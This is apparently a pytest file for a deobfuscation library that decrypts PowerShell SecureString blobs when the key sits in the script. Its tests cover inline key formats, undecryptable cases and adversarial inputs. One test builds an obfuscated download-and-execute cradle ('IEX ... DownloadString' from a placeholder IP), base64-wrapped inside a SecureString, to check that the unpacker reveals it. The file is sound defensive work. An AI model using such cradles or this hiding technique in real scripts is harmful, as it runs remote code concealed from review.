"""SecureStrings exported with ``-Key`` and decrypted with the key the same script writes.

The blobs are made here the way ``ConvertFrom-SecureString -Key`` makes them: the header
``76492d1116743f0423413b16050a5345``, then base64 of UTF-16 ``2|<IV>|<cipher hex>``, AES-CBC
of the UTF-16 text, PKCS#7-padded. (Checked against real exports found in public scripts,
which decrypt to their passwords; those stay out of the repository.)
"""

from __future__ import annotations

import base64
import time

import pytest
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from asisdk.decode import unpack
from asisdk.decode._securestring import SECURESTRING_HEADER

from .builders import check_offsets

IV = bytes(range(100, 116))


def export(plain: str, key: bytes, iv: bytes = IV) -> str:
    """``ConvertFrom-SecureString -Key`` of ``plain``."""
    padder = padding.PKCS7(128).padder()
    padded = padder.update(plain.encode("utf-16-le")) + padder.finalize()
    encryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    cipher = encryptor.update(padded) + encryptor.finalize()
    body = f"2|{base64.b64encode(iv).decode()}|{cipher.hex()}".encode("utf-16-le")
    return SECURESTRING_HEADER + base64.b64encode(body).decode()


def secure(text: str) -> list[str | None]:
    result = unpack(text)
    check_offsets(text, result)
    return [layer.text for layer in result.layers if layer.encoding == "ps_securestring"]


KEY16 = bytes(range(1, 17))
KEY24 = bytes(
    [3, 4, 2, 3, 56, 34, 254, 222, 1, 1, 2, 23, 42, 54, 33, 233, 1, 34, 2, 7, 6, 5, 35, 42]
)
KEY32 = bytes((i * 37 + 11) % 256 for i in range(32))


def _listed(key: bytes, separator: str = ",") -> str:
    return separator.join(str(byte) for byte in key)


@pytest.mark.parametrize(
    ("template", "key"),
    [
        # Invoke-Obfuscation's SecureString encoding: the key inline, as a range or a list
        ("'{blob}' | ConvertTo-SecureString -Key (1..16)", KEY16),
        ("$s = '{blob}' | ConvertTo-SecureString -key " + _listed(KEY24), KEY24),
        ("ConvertTo-SecureString -String '{blob}' -K " + _listed(KEY32), KEY32),
        ("ConvertTo-SecureString '{blob}' -Key @(" + _listed(KEY32) + ")", KEY32),
        # a credential kept in a script, the key in a variable
        ("$k = (" + _listed(KEY24) + ")\n$p = '{blob}' | ConvertTo-SecureString -Key $k", KEY24),
        (
            "[byte[]]$Key = @("
            + _listed(KEY16)
            + ')\n$p = "{blob}" | ConvertTo-SecureString -Key $key',
            KEY16,
        ),
        (
            "$k = '"
            + _listed(KEY32)
            + "' -split ','\n$p = '{blob}' | ConvertTo-SecureString -key $k",
            KEY32,
        ),
        (
            '$k = "' + _listed(KEY32, " ") + '"\n'
            "$p = ConvertTo-SecureString -String '{blob}' -Key ([Byte[]]$k.Split(\" \"))",
            KEY32,
        ),
    ],
)
def test_a_securestring_whose_key_is_in_the_script_is_decrypted(template: str, key: bytes) -> None:
    text = template.replace("{blob}", export("Summer2024!", key))
    assert secure(text) == ["Summer2024!"]


def test_a_script_hidden_in_a_securestring_is_unpacked_further() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    inner = base64.b64encode(script.encode("utf-16-le")).decode()
    text = (
        "$( [Runtime.InteropServices.Marshal]::PtrToStringAuto("
        "[Runtime.InteropServices.Marshal]::SecureStringToBSTR( $('"
        + export(f"powershell -enc {inner}", KEY16)
        + "' | ConvertTo-SecureString -Key (1..16)) ) ) ) | IEX"
    )
    result = unpack(text)
    assert [layer.encoding for layer in result.layers] == ["ps_securestring", "base64"]
    assert result.layers[-1].text == script


def test_a_blob_wrapped_over_lines_is_read_whole() -> None:
    blob = export("wrapped secret", KEY16)
    wrapped = "\n".join(blob[i : i + 64] for i in range(0, len(blob), 64))
    assert secure(f'$e = "{wrapped}"\n$e | ConvertTo-SecureString -Key (1..16)') == [
        "wrapped secret"
    ]


@pytest.mark.parametrize(
    "text",
    [
        # no key in the text (DPAPI, or a key read from a file): opaque
        "'{blob}' | ConvertTo-SecureString -Key (Get-Content .\\aes.key)",
        "'{blob}' | ConvertTo-SecureString",
        # a key of the wrong length, or the wrong key
        "'{blob}' | ConvertTo-SecureString -Key (1..15)",
        "'{blob}' | ConvertTo-SecureString -Key (2..17)",
        # the header alone
        "$h = '" + SECURESTRING_HEADER + "' ; ConvertTo-SecureString -Key (1..16)",
        # a DPAPI export has no header
        "'01000000d08c9ddf0115d1118c7a00c04fc297eb0100' | ConvertTo-SecureString -Key (1..16)",
    ],
)
def test_what_cannot_be_decrypted_stays_alone(text: str) -> None:
    assert secure(text.replace("{blob}", export("secret", KEY16))) == []


MB = 1_000_000
ADVERSARIAL = {
    "headers": SECURESTRING_HEADER * (MB // 32),
    "key_parameters": SECURESTRING_HEADER + " -k $a" * (MB // 6),
    "distinct_key_variables": SECURESTRING_HEADER + "".join(f" -k $v{i}" for i in range(MB // 10)),
    "key_lists": SECURESTRING_HEADER + (" -Key " + "1," * 15) * (MB // 36),
    "blobs_and_keys": ("'" + export("x", KEY16) + "' -Key (1..16) ") * (MB // 250),
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_megabyte_is_bounded(name: str) -> None:
    started = time.perf_counter()
    unpack(ADVERSARIAL[name])
    assert time.perf_counter() - started < 30
